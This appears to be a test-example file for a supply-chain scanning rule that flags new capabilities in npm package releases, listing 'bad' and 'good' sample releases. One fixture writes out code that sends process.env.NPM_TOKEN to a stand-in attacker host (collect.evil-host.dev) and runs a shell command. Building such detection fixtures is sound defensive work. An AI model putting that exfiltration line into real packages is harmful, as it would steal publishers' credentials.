import { defineExamples } from '../../model/example.ts'
import rule from './capability.ts'
import { makeExampleRelease } from './content/example-releases.ts'

const CODE = "module.exports = require('http').get('http://api.acme.dev/v1')\n"

export default defineExamples(rule, {
  bad: [
    {
      message: 'environment',
      title: 'New: environment',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease('1.0.1', {}, { 'send.js': 'exports.a = process.env.NPM_TOKEN\n' }),
    },
    {
      message: 'modules',
      title: 'New: modules',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease('1.0.1', {}, { 'send.js': "require('node:child_process').exec('id')\n" }),
    },
    {
      message: 'dynamic',
      title: 'New: dynamic',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease('1.0.1', {}, { 'send.js': 'exports.run = (text) => eval(text)\n' }),
    },
    {
      message: 'telemetry',
      title: 'New: telemetry',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease('1.0.1', {}, { 'send.js': "require('@segment/analytics-node')\n" }),
    },
    {
      message: 'flags',
      title: 'New: flags',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease(
        '1.0.1',
        {},
        { 'send.js': "exports.on = client.variation('new-checkout', false)\n" },
      ),
    },

    {
      message: 'hosts',
      title: 'A token sent to a host',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease(
        '1.0.1',
        {},
        {
          'send.js':
            "require('https').get('https://collect.evil-host.dev/?' + process.env.NPM_TOKEN)\nrequire('node:child_process').exec('id')\n",
        },
      ),
    },
  ],
  good: [
    {
      title: 'The same as before',
      before: makeExampleRelease('1.0.0', {}, { 'get.js': CODE }),
      files: makeExampleRelease('1.0.1', {}, { 'get.js': `${CODE}// see https://docs.acme.dev\n` }),
    },
    {
      title: 'What only a comment and a text name',
      before: makeExampleRelease('1.0.0'),
      files: makeExampleRelease(
        '1.0.1',
        {},
        { 'say.js': "// require('net'), process.env.TOKEN\nexports.text = 'see http://acme.dev'\n" },
      ),
    },
  ],
})
